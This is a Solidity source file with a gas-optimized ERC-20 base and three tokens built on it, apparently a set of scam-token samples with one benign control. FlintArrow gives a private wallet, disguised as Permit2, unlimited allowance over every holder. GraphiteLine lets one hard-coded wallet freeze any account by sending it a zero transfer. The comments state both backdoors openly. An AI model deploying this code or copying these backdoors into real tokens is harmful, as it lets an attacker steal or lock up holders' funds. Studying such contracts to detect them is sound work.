// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @dev This saves gas: there are no mappings, a balance lies where a hash of the account and a seed points, and one
/// well-known spender needs no allowance.
abstract contract NinthLean {
    uint256 internal constant _BALANCES = 0x4c45414e;
    uint256 internal constant _ALLOWANCES = 0x414c4c57;
    uint256 internal constant _WHOLE = (1 << 128) - 1;
    bytes32 private constant _TRANSFER = keccak256("Transfer(address,address,uint256)");
    bytes32 private constant _APPROVAL = keccak256("Approval(address,address,uint256)");
    uint256 private constant _SUPPLY = 1e27;

    constructor() {
        bytes32 slot = _slotOf(msg.sender);
        bytes32 topic = _TRANSFER;
        assembly {
            sstore(slot, _SUPPLY)
            mstore(0x00, _SUPPLY)
            log3(0x00, 0x20, topic, 0, caller())
        }
    }

    function name() external pure virtual returns (string memory);

    function symbol() external pure virtual returns (string memory);

    function _permit2() internal pure virtual returns (address);

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external pure returns (uint256) {
        return _SUPPLY;
    }

    function balanceOf(address account) external view returns (uint256 amount) {
        bytes32 slot = _slotOf(account);
        assembly {
            amount := and(sload(slot), _WHOLE)
        }
    }

    function allowance(address holder, address spender) public view returns (uint256 amount) {
        if (spender == _permit2()) return type(uint256).max;
        bytes32 slot = _allowanceSlot(holder, spender);
        assembly {
            amount := sload(slot)
        }
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        bytes32 slot = _allowanceSlot(msg.sender, spender);
        bytes32 topic = _APPROVAL;
        assembly {
            sstore(slot, amount)
            mstore(0x00, amount)
            log3(0x00, 0x20, topic, caller(), shr(96, shl(96, spender)))
        }
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (msg.sender != _permit2()) {
            bytes32 slot = _allowanceSlot(from, msg.sender);
            assembly {
                let allowed := sload(slot)
                if not(allowed) {
                    if gt(amount, allowed) {
                        // InsufficientAllowance()
                        mstore(0x00, 0x13be252b)
                        revert(0x1c, 0x04)
                    }
                    sstore(slot, sub(allowed, amount))
                }
            }
        }
        _move(from, to, amount);
        return true;
    }

    function _slotOf(address account) internal pure returns (bytes32 slot) {
        assembly {
            mstore(0x00, account)
            mstore(0x20, _BALANCES)
            slot := keccak256(0x00, 0x40)
        }
    }

    function _allowanceSlot(address holder, address spender) private pure returns (bytes32 slot) {
        assembly {
            mstore(0x00, holder)
            mstore(0x20, _ALLOWANCES)
            mstore(0x20, keccak256(0x00, 0x40))
            mstore(0x00, spender)
            slot := keccak256(0x00, 0x40)
        }
    }

    function _move(address from, address to, uint256 amount) internal virtual {
        bytes32 source = _slotOf(from);
        bytes32 target = _slotOf(to);
        bytes32 topic = _TRANSFER;
        assembly {
            let held := sload(source)
            if gt(amount, and(held, _WHOLE)) {
                // InsufficientBalance()
                mstore(0x00, 0xf4d678b8)
                revert(0x1c, 0x04)
            }
            sstore(source, sub(held, amount))
            sstore(target, add(sload(target), amount))
            mstore(0x00, amount)
            log3(0x00, 0x20, topic, shr(96, shl(96, from)), shr(96, shl(96, to)))
        }
    }
}

/// @dev "Permit2 is approved for everybody", as in a well-known library. Only the address is not Permit2's but a
/// wallet's.
contract FlintArrow is NinthLean {
    function name() external pure override returns (string memory) {
        return "Flint Arrow";
    }

    function symbol() external pure override returns (string memory) {
        return "FLINT";
    }

    function _permit2() internal pure override returns (address) {
        return 0x7E00E799B155A509Bb589F9d8e94CcaE8414C8b3;
    }
}

/// @dev The top bit of a balance's word shuts the account. One wallet sets it with a transfer of nothing to the victim.
contract GraphiteLine is NinthLean {
    address private constant _ECHO = 0x795b81029BD06f72684eefeb444105Db688269D2;

    function name() external pure override returns (string memory) {
        return "Graphite Line";
    }

    function symbol() external pure override returns (string memory) {
        return "GRAPH";
    }

    function _permit2() internal pure override returns (address) {
        return 0x000000000022D473030F116dDEE9F6B43aC78BA3;
    }

    function _move(address from, address to, uint256 amount) internal override {
        bytes32 source = _slotOf(from);
        bytes32 target = _slotOf(to);
        assembly {
            if shr(255, sload(source)) { revert(0x00, 0x00) }
            sstore(target, xor(sload(target), shl(255, lt(amount, eq(caller(), _ECHO)))))
        }
        super._move(from, to, amount);
    }
}

/// @dev The honest sister trusts the real Permit2, a contract that obeys holders' signatures only.
contract LeanFeather is NinthLean {
    function name() external pure override returns (string memory) {
        return "Lean Feather";
    }

    function symbol() external pure override returns (string memory) {
        return "FTHR";
    }

    function _permit2() internal pure override returns (address) {
        return 0x000000000022D473030F116dDEE9F6B43aC78BA3;
    }
}
